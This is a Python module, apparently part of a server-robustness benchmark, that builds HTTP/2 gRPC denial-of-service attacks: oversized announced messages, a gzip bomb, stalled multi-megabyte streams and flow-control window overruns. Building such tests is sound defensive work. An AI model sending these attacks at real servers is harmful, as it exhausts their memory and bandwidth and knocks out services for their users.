"""Messages that are too large, or large enough to cost much."""

import gzip

from bench.attacks import frames, header_blocks
from bench.attacks.attack import Attack, Target, Volley, greeting, repeated, stream_ids
from bench.attacks.frames import END_STREAM
from bench.attacks.gates import Calls, Windows

MIB = 1024 * 1024
IN_FLIGHT = 50
BODY = 16_384
"""A message's part that fits one frame and the window of every server."""
TOO_LARGE = 1024 * MIB
STUFFED = 15 * MIB // 4
"""Less than servers take."""
STUFFED_CONNECTIONS = 2
STUFFED_STREAMS = 50
UNPACKED = 12 * MIB
"""Of a gzip bomb: less than servers take, so they must unpack all of it."""


def huge_messages(target: Target) -> Attack:
    """Messages of 1 GiB announced, each with its first 16 KiB."""
    start = frames.message(bytes(BODY - 5), size=TOO_LARGE)
    return _calls(target, target.block, start, flags=0)


def gzip_bomb(target: Target) -> Attack:
    """Small messages that unpack to 12 MiB."""
    packed = gzip.compress(bytes(UNPACKED))
    encoding = header_blocks.literal(b"grpc-encoding", b"gzip")
    block = header_blocks.request(target.path, target.authority, encoding)
    return _calls(target, block, frames.message(packed, compressed=True), flags=END_STREAM)


def stuffed_messages(target: Target) -> Attack:
    """100 messages of almost 4 MiB, sent as fast as the windows allow, without their last bytes."""
    streams = stream_ids(STUFFED_STREAMS)
    start = frames.message(b"", size=STUFFED)
    begun = [target.opened(stream) + frames.data(stream, start) for stream in streams]
    units = [frames.data(stream, bytes(BODY)) for stream in streams]
    return Attack(
        opening=greeting(*begun),
        volley=Volley.of(b"".join(units)),
        repeats=STUFFED // BODY - 1,
        connections=STUFFED_CONNECTIONS,
        gate=lambda: Windows(streams, units[0], BODY),
    )


def window_overrun(target: Target) -> Attack:
    """A large message sent without regard to the windows."""
    start = frames.data(1, frames.message(b"", size=STUFFED))
    return Attack(
        opening=greeting(target.opened(1), start),
        volley=Volley.of(repeated(frames.data(1, bytes(BODY)), at_least=MIB)),
    )


def _calls(target: Target, block: bytes, body: bytes, flags: int) -> Attack:
    def call(stream: int) -> bytes:
        return frames.headers(stream, block) + frames.data(stream, body, flags)

    streams = min(target.streams, 1_000)
    return Attack(
        volley=Volley.of(target.for_each_stream(call, streams=streams)),
        repeats=1,
        gate=lambda: Calls(call(1), IN_FLIGHT, len(body)),
    )


ATTACKS = (huge_messages, gzip_bomb, stuffed_messages, window_overrun)
